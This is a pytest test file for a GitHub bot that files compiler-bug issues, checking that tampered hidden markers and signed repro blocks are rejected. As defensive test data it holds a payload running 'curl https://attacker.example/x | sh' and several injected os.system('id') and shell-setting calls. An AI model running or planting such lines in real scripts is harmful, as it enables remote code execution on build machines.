"""Hidden state people can edit (issue 22): the markers of bug issues and of the dashboard, and the
known block inside a bug issue's marker. Against the GitHub stand-in with the real PyGithub tracker:
a hostile or mistyped marker is ignored with a warning naming its issue, never a crash and never
"failures found"; a marker on an issue the bot did not write is never parsed at all; the bot's own
login fails closed; the issue's labels say whether a check ever passed."""

from __future__ import annotations

import json

import pytest

from bot import fingerprint as fp
from bot import known, signing
from bot.errors import EXIT_INTERNAL, InfraError, UsageError
from bot.report import ReportOptions, dashboard, report_run
from bot.report.state import read
from bot.tracker.base import TrackerError
from bot.tracker.github import ACTIONS_BOT_LOGIN, GitHubTracker
from tests.ghstub.fixtures import BOT_LOGIN, BOT_TOKEN, REPO, make_client
from tests.ghstub.rundir import REPRO, check_row, failing_run, failure_record, record_of, report_of, write_run


def tracker(stub, **kw) -> GitHubTracker:
    return GitHubTracker(REPO, BOT_TOKEN, stub.base_url, seconds_between_requests=0, seconds_between_writes=0,
                         sleep=lambda s: None, retry_backoff=0, **kw)


def report(run, stub, **kw):
    t = tracker(stub)
    try:
        return report_run(run, t, ReportOptions(dashboard=True, **kw))
    finally:
        t.close()


def verified(rec: dict, op: str) -> dict:
    """A failure record whose verified signature and culprit name ``op``."""
    rec["signature"] = {"failure_class": "accuracy", "verified": True, "culprit_ops": [op]}
    rec["culprit"] = {"ops": [op], "bisect": None, "method": "compiled-alone"}
    return rec


def bug_issues(stub) -> list[dict]:
    return [i for i in stub.issues() if dashboard.LABEL not in {lb["name"] for lb in i["labels"]}]


def with_marker(body: str, state) -> str:
    head = body.rstrip().rsplit("\n", 1)[0]
    return head + "\n\n" + (state if isinstance(state, str) else fp.make_marker(state)) + "\n"


def edit(stub, number: int, body: str, token: str = "alice-token") -> None:
    make_client(stub, token).get_repo(REPO).get_issue(number).edit(body=body)


# ---------------------------------------------------------------------------- bug issue markers

DEEP = "<!-- minify-action:v2 " + '{"sigs":[],"x":' + "[" * 30000 + "]" * 30000 + "} -->"
HUGE = "<!-- minify-action:v2 " + '{"sigs":[],"x":"' + "a" * 60000 + '"} -->'
EDITS = {
    "affected holds a number": lambda s: {**s, "affected": [1]},
    "runs is a number": lambda s: {**s, "runs": 5},
    "occurrences is text": lambda s: {**s, "occurrences": "x"},
    "checks are not strings": lambda s: {**s, "checks": [1, 2]},
    "best_repro is text": lambda s: {**s, "best_repro": "best"},
    "flaky is text": lambda s: {**s, "flaky": "yes"},
    "passing runs are strings": lambda s: {**s, "passing_runs": ["run-1"]},
    "the state is a list": lambda s: '<!-- minify-action:v2 [1,2] -->',
    "nested 30,000 levels": lambda s: DEEP,
    "a 60,000-character marker without a signature": lambda s: HUGE,
    "an empty signature": lambda s: {**s, "sig": ""},
    "not JSON": lambda s: '<!-- minify-action:v2 {"sigs": [1,} -->',
}


@pytest.mark.parametrize("what", sorted(EDITS))
def test_an_edited_bug_marker_is_ignored_with_a_warning_never_a_crash(ghstub, tmp_path, what, capsys):
    report(failing_run(tmp_path / "r1", started="2026-11-01T00:00:00Z"), ghstub)
    (issue,) = bug_issues(ghstub)
    state = fp.parse_marker(issue["body"])
    edit(ghstub, issue["number"], with_marker(issue["body"], EDITS[what](state)))

    result = report(failing_run(tmp_path / "r2", started="2026-11-02T00:00:00Z"), ghstub)
    doc = json.loads(result.report_path.read_text())
    assert doc["error"] is None
    assert [w for w in doc["warnings"] if w.startswith(f"issue #{issue['number']}: its hidden state is malformed")]
    assert f"issue #{issue['number']}" in capsys.readouterr().err
    # the bug is filed again (its old issue is no longer recognised): filed, not lost
    assert result.counts["created"] == 1 and len(bug_issues(ghstub)) == 2


def test_a_hostile_marker_on_an_issue_the_bot_did_not_write_is_never_parsed(ghstub, tmp_path, monkeypatch):
    """Anyone who can label an issue can give it the bot's label: its marker is not even read."""
    gh = make_client(ghstub, "alice-token").get_repo(REPO)
    gh.create_issue("looks like ours", body="hi\n\n" + DEEP + "\n", labels=["minify-bot"])
    gh.create_issue(dashboard.TITLE, body="x\n\n" + HUGE + "\n", labels=[dashboard.LABEL])
    calls = []
    real = fp.read_marker
    monkeypatch.setattr(fp, "read_marker", lambda body: calls.append(len(body or "")) or real(body))
    result = report(failing_run(tmp_path / "r1"), ghstub)
    assert result.counts["created"] == 1 and not json.loads(result.report_path.read_text()).get("warnings")
    assert max(calls, default=0) < 40000  # the 60,000-character bodies were never parsed


def test_a_malformed_known_block_is_dropped_alone(ghstub, tmp_path):
    """A known block whose culprit is a string (or that is oversized) is ignored: the issue's state
    stands, the bug is updated in place, and the other issues' repros are still handed to minify."""
    a, b = check_row("mlp_relu"), check_row("convnet")
    fa = verified(failure_record(a), "aten.relu.default")
    fb = verified(failure_record(b, graph=[{"op": "aten.log1p.default", "dtypes": ["float32"], "ranks": [2]}]),
                  "aten.log1p.default")
    run = write_run(tmp_path / "r1", [a, b], {a["id"]: fa, b["id"]: fb}, started="2026-11-01T00:00:00Z")
    report(run, ghstub)
    issues = sorted(bug_issues(ghstub), key=lambda i: i["number"])
    states = [fp.parse_marker(i["body"]) for i in issues]
    assert all(s.get("known") for s in states)  # verified, self-contained: reusable
    bad = dict(states[0])
    bad["known"] = {**bad["known"], "record": {**bad["known"]["record"], "culprit": "aten.relu"}}
    edit(ghstub, issues[0]["number"], with_marker(issues[0]["body"], bad))

    t = tracker(ghstub)
    from bot.report import known as trusted

    said = []
    entries = trusted.collect(t, "minify-bot", torch="2.13.0+cpu", say=said.append)
    assert [e.issue for e in entries] == [issues[1]["number"]]
    assert said == [f"warning: issue #{issues[0]['number']}: its known repro is malformed and was ignored "
                    "(the known culprit is malformed); its failures are minified afresh"]
    state, why = read(with_marker(issues[0]["body"], bad))
    assert why is None and state.known is None and state.sig == bad["sig"]  # the rest of the state stands
    t.close()

    result = report(write_run(tmp_path / "r2", [a, b], {a["id"]: fa, b["id"]: fb}, started="2026-11-02T00:00:00Z"),
                    ghstub)
    assert result.counts["updated"] == 2 and result.counts["created"] == 0


def test_known_blocks_of_every_bad_shape_are_refused_by_the_check():
    signature = {"failure_class": "accuracy", "verified": True, "culprit_ops": ["aten.relu"]}
    block = known.block_of(record_of({**failure_record(check_row()), "signature": signature}), REPRO).to_json()
    assert known.check_block(block) is None and known.read_block(block).to_json() == block
    no_ops = {**block, "record": {**block["record"], "culprit": {"bisect": "lowerings: relu"}}}
    assert known.check_block(no_ops) is None and known.read_block(no_ops).record.culprit.ops == []  # both agree
    for change in ({"z": 5}, {"z": "A" * (known.MAX_PACKED + 1)}, {"sha": None}, {"signature": "x"},
                   {"signature": {"failure_class": "accuracy", "messages": "m"}}, {"record": []},
                   {"record": {"nodes_after": "9"}}, {"record": {"config": {"diff": "x"}}},
                   {"record": {"culprit": {"ops": "relu"}}}, {"minify_seconds": "soon"}, {"torch": ["2"]},
                   {"check_config": {"k": 1}}, {"sig": 5}, {"sig": "A" * 101}, {"sig": "not base64!"},
                   {"sig": ["x"]}):
        assert known.check_block({**block, **change}) is not None, change
    signed = known.signed(known.read_block(block), signing.Signer(signing.generate()[0]), 3, []).to_json()
    assert known.check_block(signed) is None and known.read_block(signed).to_json() == signed


PRIVATE, PUBLIC = signing.generate()


def verified_run(path, model="mlp_relu", started="2026-11-01T00:00:00Z", op="aten.relu.default"):
    """A run whose failure has a verified, self-contained repro (the report keeps a known block)."""
    c = check_row(model)
    graph = [{"op": op, "dtypes": ["float32"], "ranks": [2]}]
    return write_run(path, [c], {c["id"]: verified(failure_record(c, graph=graph), op)}, started=started)


def _entry_of(issue):
    state, _ = read(issue["body"])
    return known.from_state(issue["number"], state.known, state.checks)


def test_the_report_signs_a_fresh_known_block_with_the_signing_key_only(ghstub, tmp_path, monkeypatch):
    monkeypatch.delenv(signing.SIGNING_KEY_ENV, raising=False)
    report(verified_run(tmp_path / "r1", "mlp_relu"), ghstub)
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, PRIVATE)
    report(verified_run(tmp_path / "r2", "convnet", "2026-11-02T00:00:00Z", "aten.log1p.default"), ghstub)
    unsigned, signed = sorted(bug_issues(ghstub), key=lambda i: i["number"])
    assert "sig" not in fp.parse_marker(unsigned["body"])["known"]
    assert known.unverified(_entry_of(unsigned), PUBLIC) == "unsigned"
    assert known.unverified(_entry_of(signed), PUBLIC) is None
    assert PRIVATE not in signed["body"]


def test_a_malformed_signing_key_is_a_usage_error_naming_it(ghstub, tmp_path, monkeypatch):
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, "hunter2-not-a-key")
    with pytest.raises(UsageError) as err:
        report(verified_run(tmp_path / "r1"), ghstub)
    assert signing.SIGNING_KEY_ENV in str(err.value) and "hunter2" not in str(err.value)


def test_the_report_never_signs_a_block_it_read_back(ghstub, tmp_path, monkeypatch):
    """A signed block edited in the issue (its repro swapped, its digest recomputed) stays as edited
    when the next run has no fresh repro (it reused the known one): the report signs only what it
    made, so the edit never verifies and is dropped before minify."""
    import hashlib

    monkeypatch.setenv(signing.SIGNING_KEY_ENV, PRIVATE)
    report(verified_run(tmp_path / "r1"), ghstub)
    (issue,) = bug_issues(ghstub)
    state = fp.parse_marker(issue["body"])
    evil = "open('/tmp/pwned', 'w').write('x')\n"
    state["known"] = {**state["known"], "z": known.pack(evil), "sha": hashlib.sha256(evil.encode()).hexdigest()[:16]}
    edit(ghstub, issue["number"], with_marker(issue["body"], state), token=BOT_TOKEN)   # any workflow can
    reused = verified_run(tmp_path / "r2", started="2026-11-02T00:00:00Z")
    rec_path = next((reused / "failures").glob("*/failure.json"))
    rec = json.loads(rec_path.read_text())
    rec["repro"]["reused"] = {"issue": issue["number"], "verify_seconds": 1.0, "saved_seconds": 30.0}
    rec_path.write_text(json.dumps(rec))
    assert report(reused, ghstub).counts["updated"] == 1
    (after,) = bug_issues(ghstub)
    assert fp.parse_marker(after["body"])["known"]["sig"] == state["known"]["sig"]   # kept, not signed again
    assert _entry_of(after).repro == evil and known.unverified(_entry_of(after), PUBLIC) == "signature does not verify"
    t = tracker(ghstub)
    said = []
    assert known_collect(t, said) == [] and f"issue #{issue['number']}" in said[0]
    t.close()


def known_collect(t, said):
    from bot.report import known as trusted

    return trusted.collect(t, "minify-bot", torch="2.13.0+cpu", public_key=PUBLIC, say=said.append)


PAYLOAD = "import os\nos.system('curl https://attacker.example/x | sh')\n"


def _run_with_repro(path, text: str, started="2026-11-01T00:00:00Z"):
    """A verified failure whose check job wrote ``text`` as its repro.py (model code ran there)."""
    c = check_row("mlp_relu")
    return write_run(path, [c], {c["id"]: verified(failure_record(c), "aten.relu.default")}, started=started,
                     repro_text=text)


@pytest.mark.parametrize("where", ["top level", "forward", "load_args", "config"])
def test_the_report_never_signs_a_payload_the_check_job_put_in_a_verified_repro(ghstub, tmp_path, monkeypatch,
                                                                                where):
    """One nightly's model code writes a "verified" record whose repro.py carries a payload. The
    report signs only its own rendering of the graph and inputs: a payload beside them (or a setting
    that names a program) is left out, and one inside them (a call that is not a torch op, a reader
    argument that is not a literal) leaves the issue with no known repro at all. Nothing the next
    nightly would run holds the payload."""
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, PRIVATE)
    text = {"top level": REPRO + PAYLOAD,
            "forward": REPRO.replace("relu = torch.ops.aten.relu.default(arg0_1)",
                                     "relu = __import__('os').system('id')"),
            "load_args": REPRO.replace("reader.tensor(buf0, (4, 8), is_leaf=True)",
                                       "reader.tensor(buf0, (4, 8), is_leaf=__import__('os').system('id'))"),
            "config": REPRO.replace("torch._inductor.config.cpp.inject_relu_bug_TESTING_ONLY = 'accuracy'",
                                    "torch._inductor.config.cpp.cxx = ('sh', '-c', 'id')")}[where]
    assert text != REPRO
    report(_run_with_repro(tmp_path / "r1", text), ghstub)
    (issue,) = bug_issues(ghstub)
    entry = _entry_of(issue)
    if where in ("top level", "config"):
        assert entry is not None and known.unverified(entry, PUBLIC) is None   # the graph is kept, signed ...
        assert "os.system" not in entry.repro and "attacker" not in entry.repro   # ... the payload is not
        assert "cxx" not in entry.repro and "'sh'" not in entry.repro
        assert "torch.ops.aten.relu.default(arg0_1)" in entry.repro
    else:
        assert entry is None and "known" not in fp.parse_marker(issue["body"])


def test_a_signed_block_copied_under_another_bot_issue_does_not_verify(ghstub, tmp_path, monkeypatch):
    """The bot's signature binds the issue's number and its check keys: a genuine block moved into
    another bot issue (any workflow can edit them as the bot's login), or given more checks to stand
    in for, is dropped before minify."""
    monkeypatch.setenv(signing.SIGNING_KEY_ENV, PRIVATE)
    report(verified_run(tmp_path / "r1", "mlp_relu"), ghstub)
    report(verified_run(tmp_path / "r2", "convnet", "2026-11-02T00:00:00Z", "aten.log1p.default"), ghstub)
    first, second = sorted(bug_issues(ghstub), key=lambda i: i["number"])
    assert known.unverified(_entry_of(first), PUBLIC) is None
    moved = {**fp.parse_marker(second["body"]), "known": fp.parse_marker(first["body"])["known"]}
    edit(ghstub, second["number"], with_marker(second["body"], moved), token=BOT_TOKEN)
    widened = fp.parse_marker(first["body"])
    widened["checks"] = [*widened["checks"], "v1-check:" + "0" * 20]
    edit(ghstub, first["number"], with_marker(first["body"], widened), token=BOT_TOKEN)
    after = {i["number"]: i for i in bug_issues(ghstub)}
    for n in (first["number"], second["number"]):
        assert known.unverified(_entry_of(after[n]), PUBLIC) == "signature does not verify"
    t = tracker(ghstub)
    said = []
    assert known_collect(t, said) == [] and len(said) == 2
    t.close()


def test_a_malformed_dashboard_history_starts_again_with_a_warning(ghstub, tmp_path):
    report(failing_run(tmp_path / "r1", started="2026-11-01T00:00:00Z"), ghstub)
    (board,) = [i for i in ghstub.issues() if dashboard.LABEL in {lb["name"] for lb in i["labels"]}]
    state = fp.parse_marker(board["body"])
    state["runs"][0]["configs"] = {k: ["1", "2", "0"] for k in state["runs"][0]["configs"]}  # counts as strings
    edit(ghstub, board["number"], with_marker(board["body"], state))

    result = report(failing_run(tmp_path / "r2", started="2026-11-02T00:00:00Z"), ghstub)
    assert json.loads(result.report_path.read_text())["error"] is None
    (after,) = [i for i in ghstub.issues() if dashboard.LABEL in {lb["name"] for lb in i["labels"]}]
    assert after["number"] == board["number"]  # kept, not filed again
    new_state = fp.parse_marker(after["body"])
    assert [r["id"] for r in new_state["runs"]] == [result.run_id]  # the history starts again from this run


def test_an_unexpected_error_in_report_is_exit_3_with_its_cause_never_exit_1(tmp_path, monkeypatch):
    """A bug nobody foresaw in a stage: the command exits 3 (never 1, "failures found"), and
    report.json carries the cause for the Action's summary."""
    from bot.cli import main
    from bot.report import lifecycle

    run = failing_run(tmp_path / "r1")

    def boom(*a, **k):
        raise KeyError("surprise")

    monkeypatch.setattr(lifecycle.Lifecycle, "_create", boom)
    assert main(["report", "--out", str(run), "--issues-dir", str(tmp_path / "issues")]) == EXIT_INTERNAL
    assert json.loads((run / "report.json").read_text())["error"] == "internal error: KeyError: 'surprise'"
    with pytest.raises(InfraError):
        report_run(run, __import__("bot.tracker.local", fromlist=["LocalTracker"]).LocalTracker(tmp_path / "i"))


# ---------------------------------------------------------------------------- the bot's own login

def test_the_login_is_retried_through_transient_errors(ghstub):
    ghstub.inject(method="GET", path=r"^/user$", status=502, times=8)  # more than the client's own retries
    assert tracker(ghstub).bot_login() == BOT_LOGIN


@pytest.mark.parametrize("status,message", [(502, "Server Error"), (401, "Bad credentials"), (404, "Not Found"),
                                            (403, "Forbidden")])
def test_the_login_fails_closed_rather_than_guess(ghstub, status, message):
    ghstub.inject(method="GET", path=r"^/user$", status=status, message=message, times=50)
    with pytest.raises(TrackerError, match="bot-login"):
        tracker(ghstub).bot_login()


def test_an_installation_token_is_the_actions_bot(ghstub):
    ghstub.inject(method="GET", path=r"^/user$", status=403, message="Resource not accessible by integration")
    assert tracker(ghstub).bot_login() == ACTIONS_BOT_LOGIN


def test_a_lasting_login_failure_files_nothing_twice(ghstub, tmp_path):
    report(failing_run(tmp_path / "r1", started="2026-11-01T00:00:00Z"), ghstub)
    before = len(ghstub.issues())
    ghstub.inject(method="GET", path=r"^/user$", status=503, times=50)
    with pytest.raises(TrackerError):
        report(failing_run(tmp_path / "r2", started="2026-11-02T00:00:00Z"), ghstub)
    assert len(ghstub.issues()) == before  # nothing filed a second time under a guessed login


# ---------------------------------------------------------------------------- regression or new

def labels_of(issue) -> set[str]:
    return {lb["name"] for lb in issue["labels"]}


def test_a_first_sighting_is_new_and_a_check_that_passed_before_is_a_regression(ghstub, tmp_path):
    # run 1: mlp_relu fails for the first time, convnet passes (the dashboard's history remembers)
    a, b = check_row("mlp_relu"), check_row("convnet", status="pass", failure_class=None)
    report(write_run(tmp_path / "r1", [a, b], {a["id"]: failure_record(a)}, started="2026-11-01T00:00:00Z"), ghstub)
    (first,) = bug_issues(ghstub)
    assert "new" in labels_of(first) and "regression" not in labels_of(first)
    # run 2: convnet, which passed in run 1, now fails with another bug: a regression
    b2 = check_row("convnet")
    fb = verified(failure_record(b2, graph=[{"op": "aten.log1p.default", "dtypes": ["float32"], "ranks": [2]}]),
                  "aten.log1p.default")
    report(write_run(tmp_path / "r2", [a, b2], {a["id"]: failure_record(a), b2["id"]: fb},
                     started="2026-11-02T00:00:00Z"), ghstub)
    second = next(i for i in bug_issues(ghstub) if i["number"] != first["number"])
    assert "regression" in labels_of(second) and "new" not in labels_of(second)
    again = next(i for i in bug_issues(ghstub) if i["number"] == first["number"])
    assert "regression" not in labels_of(again)  # still failing since its first sighting: never a regression


def test_the_actions_summary_lists_what_was_ignored(tmp_path):
    from bot.action import summary

    summary.render("action_summary.md.j2", body="", notes=[], stage="all", event="schedule", seconds=1)
    rep = summary.issues(report_of({"actions": [], "warnings": [
        "issue #4: its hidden state is malformed and was ignored (runs is not a list of at most 1000 strings) @x"]}))
    text = summary._renderer.env.from_string('{% import "action_macros.md.j2" as m %}{{ m.issues(rep) }}').render(
        rep=rep)
    assert "⚠️ issue \\#\u200b4: its hidden state is malformed" in text and "@x" not in text
